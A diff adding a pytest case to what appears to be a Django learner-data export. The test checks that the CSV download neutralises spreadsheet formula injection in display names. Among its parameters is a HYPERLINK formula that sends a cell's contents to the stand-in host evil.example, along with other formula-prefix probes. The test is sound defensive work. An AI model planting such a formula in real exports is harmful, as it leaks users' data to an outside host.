@@ -76,6 +76,20 @@ def test_learner_downloads_own_data_as_json_and_csv(client, world):
     assert not any("somchai" in cell for row in rows for cell in row)
 
 
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+)
+def test_my_data_csv_writes_no_live_formula(client, world, name):
+    learner = world["learner"]
+    learner.display_name = name
+    learner.save()
+    client.force_login(learner)
+    text = client.get(reverse("learners:my_data_csv")).content.decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert ["user", "1", "display_name", "'" + name] in rows
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
 def test_deletion_request_is_one_row_however_often_it_is_asked_and_can_be_withdrawn(client, world):
     client.force_login(world["learner"])
     for _ in range(2):
